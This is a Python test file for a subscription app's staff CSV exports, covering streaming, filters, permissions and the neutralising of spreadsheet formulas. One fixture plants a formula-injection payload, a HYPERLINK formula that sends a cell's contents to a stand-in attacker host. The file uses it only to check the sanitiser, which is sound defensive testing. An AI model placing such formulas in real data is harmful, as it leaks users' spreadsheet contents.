"""The CSV exports (`/api/export/subscriptions.csv`, `/api/export/invoices.csv`): streamed in chunks, with the
list's filters, formula cells neutralised, and refused like the API for who asks and for bad filters."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.http import StreamingHttpResponse

from saleor_subscriptions.api.staff import export
from tests.api.staff_world import StaffWorld, build
from tests.factories import make_subscription

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(shop: Any) -> StaffWorld:
    return build(shop)


def download(client: Any, path: str, token: str | None, **params: Any) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    query = {name: json.dumps(value) if name == "filter" else value for name, value in params.items()}
    return client.get(f"/api/export/{path}", query, headers=headers)


def rows(response: Any) -> list[dict[str, str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(text)))


def test_subscriptions_are_streamed_newest_first_in_chunks(client, world, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 2)

    response = download(client, "subscriptions.csv", world.token())

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="subscriptions.csv"'
    found = rows(response)
    assert [r["customer_email"] for r in found] == [
        f"{n}@example.com" for n in ("fay", "eve", "dan", "cat", "bob", "ann")
    ]
    bob = next(r for r in found if r["customer_email"] == "bob@example.com")
    assert (
        bob["status"] == "past_due"
        and bob["amount"] == "60.00"
        and bob["payment_method_type"] == "sepa_debit"
    )
    assert bob["customer_name"] == "Bob Bobson" and bob["plan"] == "Coffee monthly"


def test_the_lists_filters_and_search_apply(client, world):
    attention = download(
        client, "subscriptions.csv", world.token(), filter={"attention": ["ACTION_REQUIRED"]}
    )
    searched = download(client, "subscriptions.csv", world.token(), search="Catson")

    assert [r["customer_email"] for r in rows(attention)] == ["eve@example.com"]
    assert [r["customer_email"] for r in rows(searched)] == ["cat@example.com"]


def test_invoices_export_with_a_status_filter(client, world):
    response = download(client, "invoices.csv", world.token(), filter={"status": ["OPEN"]})

    found = rows(response)
    assert sorted(r["number"] for r in found) == ["INV-0003", "INV-0004", "INV-0005"]
    assert {r["total"] for r in found} == {"30.00"}


def test_a_cell_a_spreadsheet_would_run_is_neutralised(client, world):
    make_subscription(
        world.monthly,
        status="active",
        customer_email="x@example.com",
        billing_address={"firstName": '=HYPERLINK("http://evil.example/?"&A1)', "lastName": "@SUM(1)"},
    )

    found = rows(download(client, "subscriptions.csv", world.token(), search="x@example.com"))

    assert found[0]["customer_name"] == '\'=HYPERLINK("http://evil.example/?"&A1) @SUM(1)'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@A1", "\tx", "\rx"])
def test_formula_starts_are_prefixed_but_numbers_are_not(value):
    assert export.safe_cell(value) == "'" + value
    assert export.safe_cell("-5.00") == "-5.00"
    assert export.safe_cell("plain") == "plain"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        (
            {"filter": {"created": {"gte": "2026-02-01T00:00:00+00:00", "lte": "2026-01-01T00:00:00+00:00"}}},
            "filter.created",
        ),
        ({"filter": {"status": ["NOT_A_STATE"]}}, "filter"),
        ({"search": "y" * 201}, "search"),
    ],
)
def test_bad_filters_are_refused_naming_them(client, world, params, field):
    response = download(client, "subscriptions.csv", world.token(), **params)

    assert response.status_code == 400
    [error] = response.json()["errors"]
    assert error["extensions"]["code"] == "BAD_USER_INPUT" and error["extensions"]["field"] == field


def test_filter_that_is_not_json_is_refused(client, world):
    response = client.get(
        "/api/export/invoices.csv", {"filter": "{"}, headers={"Authorization": f"Bearer {world.token()}"}
    )

    assert response.status_code == 400
    assert response.json()["errors"][0]["extensions"]["field"] == "filter"


def test_only_staff_with_manage_orders_may_export(client, world, shop):
    anonymous = client.get("/api/export/subscriptions.csv", headers={"Saleor-Api-Url": shop.fake.api_url})
    customer = download(client, "subscriptions.csv", shop.customer_token())
    products = download(client, "invoices.csv", shop.staff_token(("MANAGE_PRODUCTS",)))
    forged = download(client, "invoices.csv", "not-a-token")

    assert anonymous.status_code == 403
    assert anonymous.json()["errors"][0]["extensions"]["code"] == "AUTHENTICATION_REQUIRED"
    assert customer.status_code == 403
    assert products.status_code == 403
    assert products.json()["errors"][0]["extensions"] == {
        "code": "PERMISSION_DENIED",
        "permissions": ["MANAGE_ORDERS"],
    }
    assert forged.status_code == 401


def test_only_get(client, world):
    response = client.post(
        "/api/export/subscriptions.csv", headers={"Authorization": f"Bearer {world.token()}"}
    )

    assert response.status_code == 405
